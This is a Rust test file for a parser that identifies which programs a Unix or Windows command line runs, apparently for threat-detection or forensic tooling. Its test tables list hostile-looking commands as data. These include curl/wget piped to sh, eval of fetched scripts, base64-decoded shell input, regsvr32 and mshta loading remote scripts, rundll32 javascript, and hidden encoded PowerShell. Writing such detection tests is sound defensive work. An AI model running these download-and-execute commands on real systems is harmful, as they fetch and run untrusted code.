//! What a command line runs, from its text alone (spec 2.6 rule 10).
use assize_domain::command::{file_behind, programs, windows_file_behind, windows_programs};
use proptest::prelude::*;

/// M15
#[test]
fn the_programs_of_a_shell_command_are_found_in_order() {
    let rows: &[(&str, &[&str], Option<&str>)] = &[
        ("/tmp/.x/kswapd0 900 >/dev/null 2>&1", &["/tmp/.x/kswapd0"], Some("/tmp/.x/kswapd0")),
        (
            "test -e /run/systemd/system || /usr/sbin/e2scrub_all_cron",
            &["/usr/sbin/e2scrub_all_cron"],
            Some("/usr/sbin/e2scrub_all_cron"),
        ),
        ("[ -x /usr/bin/a ] && /usr/bin/a -q", &["/usr/bin/a"], Some("/usr/bin/a")),
        ("(curl -fsSL http://h/i.sh || wget -q -O- http://h/i.sh) | sh", &["curl", "wget", "sh"], None),
        ("/usr/bin/curl -s http://h/i | /bin/bash", &["/usr/bin/curl", "/bin/bash"], None),
        ("curl -s http://h/i | sudo bash -s -- -y", &["curl", "bash"], None),
        ("{ curl -s http://h/i; echo; } | sh", &["curl", "sh"], None),
        ("bash <(curl -s http://h/i)", &["curl", "bash"], None),
        ("sh -c \"$(curl -fsSL http://h/i)\"", &["curl", "sh"], None),
        ("eval \"$(wget -qO- http://h/i)\"", &["wget", "eval"], None),
        ("bash -c 'curl http://h/i|bash'", &["curl", "bash"], None),
        ("echo aGk= | base64 -d | sh", &["base64", "sh"], None),
        ("/usr/bin/php /var/www/app/artisan report:send", &["/var/www/app/artisan"], Some("/var/www/app/artisan")),
        ("/usr/bin/python3.11 -u /opt/x/run.py --now", &["/opt/x/run.py"], Some("/opt/x/run.py")),
        ("python3 -c 'import os'", &["python3"], None),
        ("/usr/bin/perl -MIO::Socket -e 'x'", &["/usr/bin/perl"], None),
        ("bash -lc '/tmp/a --b'", &["/tmp/a"], Some("/tmp/a")),
        ("bash -- /tmp/-x.sh", &["/tmp/-x.sh"], Some("/tmp/-x.sh")),
        ("sh /var/tmp/u.sh", &["/var/tmp/u.sh"], Some("/var/tmp/u.sh")),
        ("sh < /var/tmp/u.sh", &["/var/tmp/u.sh"], Some("/var/tmp/u.sh")),
        (". /home/a/.x", &["/home/a/.x"], Some("/home/a/.x")),
        ("cd /tmp/.x && ./run", &["/tmp/.x/run"], Some("/tmp/.x/run")),
        ("(cd /tmp; true); ./run", &["./run"], Some("./run")),
        ("./run; /usr/bin/a", &["./run", "/usr/bin/a"], Some("./run")),
        ("sleep 30 && /tmp/a", &["sleep", "/tmp/a"], Some("/tmp/a")),
        ("FOO=1 BAR='a b' nohup nice -n 19 /tmp/a &", &["/tmp/a"], Some("/tmp/a")),
        ("env -i -u X PATH=/tmp setsid timeout -k 5 10 /tmp/a", &["/tmp/a"], Some("/tmp/a")),
        ("sudo -u bob -- /home/bob/a b", &["/home/bob/a"], Some("/home/bob/a")),
        ("su - bob -c '/home/bob/a b'", &["/home/bob/a"], Some("/home/bob/a")),
        ("exec -a kworker /tmp/a", &["/tmp/a"], Some("/tmp/a")),
        ("flock -n /run/l -c '/tmp/a'", &["/tmp/a"], Some("/tmp/a")),
        ("/lib64/ld-linux-x86-64.so.2 /tmp/a", &["/tmp/a"], Some("/tmp/a")),
        ("\"/home/a b/c\" x", &["/home/a b/c"], Some("/home/a b/c")),
        ("/home/a\\ b/c", &["/home/a b/c"], Some("/home/a b/c")),
        ("/tmp/a>/dev/null", &["/tmp/a"], Some("/tmp/a")),
        ("if [ -f /x ]; then /tmp/a; fi", &["/tmp/a"], Some("/tmp/a")),
        ("for f in /etc/*; do /tmp/a \"$f\"; done", &["/tmp/a"], Some("/tmp/a")),
        ("find /var -name x -exec /tmp/a {} \\;", &["find", "/tmp/a"], Some("/tmp/a")),
        ("# /tmp/a", &[], None),
        ("/tmp/a # /tmp/b", &["/tmp/a"], Some("/tmp/a")),
        ("cat <<EOF\n/tmp/no\nEOF\n/tmp/a", &["cat", "/tmp/a"], Some("/tmp/a")),
        ("x=$(/tmp/a)", &["/tmp/a"], Some("/tmp/a")),
        ("echo '$(/tmp/a)'", &[], None),
        ("f() { /tmp/a; }; f", &["/tmp/a", "f"], Some("/tmp/a")),
        ("java -cp x -jar /tmp/a.jar", &["/tmp/a.jar"], Some("/tmp/a.jar")),
        ("$HOME/.x/a", &["$HOME/.x/a"], Some("$HOME/.x/a")),
        ("", &[], None),
    ];
    for (command, expected, file) in rows {
        assert_eq!(programs(command), *expected, "{command}");
        assert_eq!(file_behind(command).as_deref(), *file, "{command}");
    }
}

/// M15
#[test]
fn the_programs_of_a_windows_command_are_found() {
    let rows: &[(&str, Option<&str>)] = &[
        (r#""C:\Users\Public\Libraries\ods.exe" /quiet"#, Some(r"C:\Users\Public\Libraries\ods.exe")),
        (r"C:\ProgramData\wdu\wdu.exe -svc", Some(r"C:\ProgramData\wdu\wdu.exe")),
        (r"C:\Program Files\My App\a.exe /x", Some(r"C:\Program Files\My App\a.exe")),
        (r"rundll32 C:\Users\ann\Downloads\a.dll,X", Some(r"C:\Users\ann\Downloads\a.dll")),
        (r#"C:\Windows\System32\rundll32.exe "C:\a b\c.dll",#1"#, Some(r"C:\a b\c.dll")),
        (r"rundll32 javascript:..\mshtml,RunHTMLApplication", None),
        (r"regsvr32 /s /n C:\x\y.dll", Some(r"C:\x\y.dll")),
        ("regsvr32 /s /u /i:http://h/f.sct scrobj.dll", None),
        (r"wscript.exe //B C:\x\a.vbs", Some(r"C:\x\a.vbs")),
        ("mshta http://h/a.hta", None),
        (r"cmd.exe /c start /min C:\x\a.bat", Some(r"C:\x\a.bat")),
        (r"cmd /c copy a b & C:\x\a.exe", Some(r"C:\x\a.exe")),
        (r"powershell.exe -NoP -File C:\x\a.ps1", Some(r"C:\x\a.ps1")),
        ("powershell.exe -NoP -W Hidden -Enc UwB0AGEA", None),
        (r"%APPDATA%\u.exe", Some(r"%APPDATA%\u.exe")),
        (r"\??\C:\Windows\Temp\d.sys", Some(r"\??\C:\Windows\Temp\d.sys")),
        ("notepad.exe", None),
        ("", None),
    ];
    for (command, file) in rows {
        assert_eq!(windows_file_behind(command).as_deref(), *file, "{command}");
    }
    assert_eq!(windows_programs("notepad.exe"), ["notepad.exe"]);
}

proptest! {
    #[test]
    fn hostile_text_is_read_to_its_end(command in "(?s)[ -~\\n]{0,120}") {
        let found = programs(&command);
        prop_assert_eq!(&found, &programs(&command));
        prop_assert!(found.len() <= command.len());
        prop_assert!(windows_programs(&command).len() <= command.len() + 1);
    }

    #[test]
    fn shell_signs_in_any_order_are_read_to_their_end(
        signs in proptest::collection::vec(proptest::sample::select(vec![
            "(", ")", "{ ", "}", "$(", "`", "'", "\"", "\\", "|", "&", ";", "<", ">", "<<", "<(", "a", " ", "\n", "#", "sh -c ",
        ]), 0..60),
    ) {
        let command = signs.concat();
        prop_assert!(programs(&command).len() <= command.len());
    }
}

#[test]
fn commands_inside_commands_do_not_exhaust_the_stack() {
    for open in ["(", "$(", "{ ", "sh -c \"", "eval ", "nohup ", "`"] {
        assert!(programs(&open.repeat(20_000)).len() <= 20_000);
    }
    assert!(windows_programs(&"cmd /c ".repeat(20_000)).len() <= 20_000);
}
